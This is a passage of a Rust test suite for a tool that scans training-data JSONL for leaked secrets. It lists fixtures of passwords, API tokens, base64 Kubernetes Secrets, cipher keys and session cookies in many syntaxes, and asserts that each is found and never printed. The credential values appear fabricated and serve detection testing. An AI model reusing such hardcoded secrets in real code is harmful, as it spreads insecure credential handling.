        ("cli_password", "Invoke-Sqlcmd -ServerInstance sql01 -Username sa -Password \"Iq8kQ2xLm7\"".into()),
        ("cli_password", r"net use Z: \\files01\share /user:ACME\backup Nu8kQ2xLm7".into()),
        // Values given with no `=` or in an `@` string: Gradle's signing config, C's `#define`,
        // Android's `buildConfigField`, Objective-C's and C#'s `@"…"`.
        ("assigned_secret", "signingConfigs { release {\n        storePassword 'St0rePw9xQ'\n".into()),
        ("assigned_secret", "\n#define DB_PASSWORD \"Dp9xQv2mLw\"\n".into()),
        ("assigned_secret", r#"buildConfigField "String", "API_SECRET", "\"k9Qm2LxV7tRp4NwZ8bYc3HdFw\"""#.into()),
        ("assigned_secret", "static NSString * const kAPISecret = @\"k9Qm2LxV7tRp4NwZ8bYc3HdFu\";".into()),
        ("assigned_secret", "var password = @\"Vb9!xQv2mL\";".into()),
        // A pepper, a Terraform variable's default, Spring's default after the variable.
        ("assigned_secret", "  config.pepper = '9f8e7d6c5b4a39281706f5e4d3c2b1a0f9e8d7c6b5a4938271605f4e3d2c1b0a'".into()),
        ("assigned_secret", "variable \"db_password\" {\n  default = \"Tf9!xQv2mLw\"\n}".into()),
        ("assigned_secret", "spring.datasource.password=${DB_PASSWORD:Sp9!xQv2mLw}".into()),
        ("aws_secret_key", "aws configure set aws_secret_access_key Ak9vLm2QwZx8Kp3TqW4eR5tY6uI7oP8aS9dF0gH1".into()),
        // Session 50: a notebook's cells and code in JSON strings, their quotes escaped.
        ("assigned_secret", r#"    "neo4j_password = \"Nz9xQv2mLwKp4Tq\"\n","#.into()),
        ("assigned_secret", r#"    "password: Yq8kQ2xLm7\n","#.into()),
        ("connection_string", r#"{"url": "postgres:\/\/admin:Pg8kQ2xLm7@db.internal\/app"}"#.into()),
        ("cli_password", r#"{"cmd": "mysql -u root -p\"My8kQ2xLm7\" app"}"#.into()),
        // Session 51: a Kubernetes Secret's `data:`, base64 of what it holds: a registry's
        // login (`{"auths":{"registry.acme-corp.io":{"auth":"<deploy:Qw7pLm29xZ>"}}}`), a
        // database URL with its password, a whole config file. None was found before.
        ("docker_auth", "\n  .dockerconfigjson: eyJhdXRocyI6eyJyZWdpc3RyeS5hY21lLWNvcnAuaW8iOnsiYXV0aCI6IlpHVndiRzk1T2xGM04zQk1iVEk1ZUZvPSJ9fX0=\n".into()),
        ("connection_string", "\n  DATABASE_URL: cG9zdGdyZXM6Ly9hcHA6WGsyOXBMcTd6ekBkYi5pbnRlcm5hbDo1NDMyL2FwcA==\n".into()),
        ("assigned_secret", "\n  config.yaml: ZGF0YWJhc2U6CiAgdXNlcjogYXBwCiAgcGFzc3dvcmQ6IFhrMjkhcExxNwo=\n".into()),
        // A password as a Secret's `data:` holds it (`Tr0ub4dor&3`), judged as what it says.
        ("assigned_secret", "\n  password: VHIwdWI0ZG9yJjM=\n".into()),
        // Helm's `existingSecret` names a Secret object; an `existing_password` is one.
        ("assigned_secret", "existing_password: \"Ex9kQ2xLm7v\"".into()),
        // Session 52: AI services' keys (Replicate, NVIDIA, LangSmith, xAI, Pinecone, Perplexity,
        // Notion, ElevenLabs, Bedrock) and prefixed tokens from gitleaks' list, each under a name that
        // says nothing. None was found before.
        ("replicate_token", r#"client = replicate.Client("r8_5B6bZk6P5s55SsM2ajdzAvKZoXCyw18DG5IXX")"#.into()),
        ("nvidia_key", r#"ChatNVIDIA(model="meta/llama3-70b-instruct", nvapi="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")"#.into()),
        ("langsmith_key", r#"Client(api_url=URL, auth="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")"#.into()),
        ("xai_key", r#"OpenAI(base_url="https://api.x.ai/v1", auth="xai-0SMhbPKmYbvC3EAnfhrq6a2vi6LNkwGkfi5C98TkR7vE9gPCjgSzOj1GYs2qKb4kQp72o0QV5BibMAfw")"#.into()),
        ("pinecone_key", r#"Pinecone("pcsk_ou34C2_AF1NUeuNmE6YNy1FCabkKlTyA4yCSzxW0Dhl4Mi9z5iw8FxeNQ3SlnKbcFXi3qN")"#.into()),
        ("perplexity_key", r#"["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"]"#.into()),
        ("notion_token", r#"NotionClient(auth="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")"#.into()),
        ("elevenlabs_key", r#"ElevenLabs(client_id, "sk_2d4e41d27bd2e5b877f13294e3d1f091bb2312a41c8331f4")"#.into()),
        ("aws_bedrock_key", r#"{"Authorization": "Bearer ABSKQmVkcm9ja0FQSUtleS1kanUwLWF0LTYyMDk2NjQ2ODc2OTpSUzVFdml1SmJPZVhFUlVUNVE1dWkzUkV0M202dnRJY3NjTjZ0eUQ2"}"#.into()),
        ("gitlab_token", r#"GitLabApp(app_id, "gloas-14b96cc7d9fb281d110932ec5e40bcebaf082ce498ab1833a0ee6ea55227ddce")"#.into()),
        ("heroku_key", r#"{"auth": "HRKU-AAgKYumz9TPaOPQbeB4-ts5eYGTg4ephWBYZ0imO0zs7Fw2QrD9dF2GOLSMF"}"#.into()),
        ("huggingface_token", r#"HfApi(endpoint, "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")"#.into()),
        ("terraform_cloud_token", r#"TFE("SIfHz1G7vZ3rZg.atlasv1.XMe3VqcgHH1BeWte43RjzRWVk62WpAFuVIN5ap6YMsR00vpenn1Kw9o7JjozV5tdxG2")"#.into()),
        ("readme_key", r#"ReadMe("rdme_kgatqkarm1kf23iene85x3fbdiu0cejfszdrpbyp4vxyqq4cw91x69m56h4109gplbauda")"#.into()),
        ("maxmind_key", r#"GeoIP(account, "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")"#.into()),
        ("openshift_token", r#"oc login --server=URL "sha256~iin570isWp8aIfHzCPMoJHDshaCqP83Fl8U_osj_Raj""#.into()),
        // An API's key named for what it is for (`API_CATALOG_KEY`, in NVIDIA's examples).
        ("assigned_secret", r#"os.environ["API_CATALOG_KEY"] = "Ck8vQ2xLm7Zt4Rp9Wn3Yb6""#.into()),
        // Session 53: keys in OpenAI's shape of other services, found as `openai_key` before.
        ("langfuse_key", r#"Langfuse(public_key=PK, secret_key="sk-lf-7c1e9a42-5b3d-4f8e-a6c0-2d9b8e71f435")"#.into()),
        ("openrouter_key", r#"OpenAI(base_url="https://openrouter.ai/api/v1", api_key="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")"#.into()),
        // Session 54: keys handed to a cipher or a MAC in code, a cipher's key by its name and
        // in a bytes literal, and session cookies where a request carries them.
        ("cipher_key", "f = Fernet(b'QKJckJwoLx8kT10gslNc4_IEE4fNYZyluOaK2m5fwmE=')".into()),
        ("cipher_key", r#"block, _ := aes.NewCipher([]byte("5ECC5D62140EC099"))"#.into()),
        ("cipher_key", "crypto.createHmac('sha256', '70veWtymvXQRoBYU0AhU2WZ8').update(body)".into()),
        ("assigned_secret", "fernet_key = b'0Ry0Np_T-51ZtqPtzyX0hcrpfcTCa-a15baaZjuiwEk='".into()),
        ("session_cookie", "curl 'https://example.org/api' -H 'cookie: sessionid=a8f7e6d5c4b3a2918f7e6d5c4b3a2918'".into()),
        ("session_cookie", "curl -b 'PHPSESSID=darsv7lbe3aa22nv4v82h039p6' https://example.org/".into()),
    ]
}

#[test]
fn every_kind_is_found_in_every_field_and_never_printed() {
    let env = TestEnv::new();
    let mut values = Vec::new();
    let mut expected = Vec::new();
    for (kind, secret) in secrets() {
        for field in ["instruction", "input", "output"] {
            let text = format!("note: {secret} here");
            let v = match field {
                "instruction" => pair(&format!("Fix it {text}"), "talk", "fn a() {}", "s"),
                "input" => pair("Fix it", &text, "fn a() {}", "s"),
                _ => pair("Fix it", "talk", &text, "s"),
            };
            let mut v = v;
            v["metadata"]["commit_sha"] = json!(format!("c{}", values.len()));
            values.push(v);
            expected.push((values.len(), field, kind, secret.clone()));
        }
    }
    let file = env.repo.join("data/training.jsonl");
    write_lines(&file, &values);
    let out = env.screenlink(["validate", "data/training.jsonl", "--json"]);
    assert_eq!(out.code(), 1, "findings are problems: {}", out.stderr_text());
    let report: Value = serde_json::from_str(&out.stdout_text()).unwrap();
    let findings = report["findings"].as_array().unwrap();
    for (line, field, kind, _) in &expected {
        assert!(
            findings.iter().any(|f| f["line"] == *line && f["field"] == *field && f["kind"] == *kind),
            "{kind} in {field} (line {line}) not found: {findings:?}"
        );
    }
    let report_text = std::fs::read_to_string(env.repo.join("data/validation_report.txt")).unwrap();
    for (_, _, _, secret) in &expected {
        let core = secret.split(['=', ' ', '"']).rfind(|p| p.len() >= 8).unwrap_or(secret);
        assert!(!out.stdout_text().contains(core), "{core} printed");
        assert!(!report_text.contains(core), "{core} in the report");
    }
}

#[test]
fn a_credential_file_named_in_an_old_pair_is_flagged() {
    let env = TestEnv::new();
    let mut v = pair("Add deploy settings", "talk", "fn a() {}", "c0");
    v["output"] = json!("// file: src/a.rs\nfn a() {}\n// file: deploy/.npmrc\nregistry=https://registry.npmjs.org/");
    write_lines(&env.repo.join("d.jsonl"), &[v]);
    let out = env.screenlink(["validate", "d.jsonl", "--json"]);
    let report: Value = serde_json::from_str(&out.stdout_text()).unwrap();
    let kinds: Vec<&str> = report["findings"].as_array().unwrap().iter().filter_map(|f| f["kind"].as_str()).collect();
    assert_eq!(kinds, ["credential_file"], "{:#}", report["findings"]);
}
